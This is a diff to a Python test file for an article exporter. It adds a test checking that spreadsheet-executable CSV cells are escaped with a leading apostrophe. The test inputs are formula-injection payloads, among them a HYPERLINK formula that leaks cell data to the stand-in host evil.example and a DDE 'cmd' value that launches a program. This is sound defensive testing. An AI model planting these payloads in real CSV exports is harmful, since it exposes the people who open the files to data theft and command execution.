@@ -104,6 +104,25 @@ def test_csv_round_trips_bodies_with_newlines_and_quotes(db: Database, tmp_path:
     assert json.loads(rows[2]["authors"]) == ["Author 3", "Desk"]
 
 
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+     "\t=1", "\r=1"],
+)  # fmt: skip
+def test_csv_cells_a_spreadsheet_would_run_are_escaped(db: Database, title: str) -> None:
+    article_id = store_article(db, "evil.txt", title=title, body="-- a dash\n\nbody", word_count=3)
+
+    out = io.StringIO()
+    exporting.export(db, "csv", None, out)
+    [row] = [r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["id"] == str(article_id)]
+
+    assert row["title"] == "'" + title
+    assert row["body"] == "'-- a dash\n\nbody"
+    # JSON Lines keeps the text as it is
+    [line] = [r for r in _jsonl(db) if r["id"] == article_id]
+    assert line["title"] == title
+
+
 def test_parquet_is_typed(db: Database, tmp_path: Path) -> None:
     target = tmp_path / "articles.parquet"
     assert exporting.export(db, "parquet", target, io.StringIO(), canonical=True) == 21
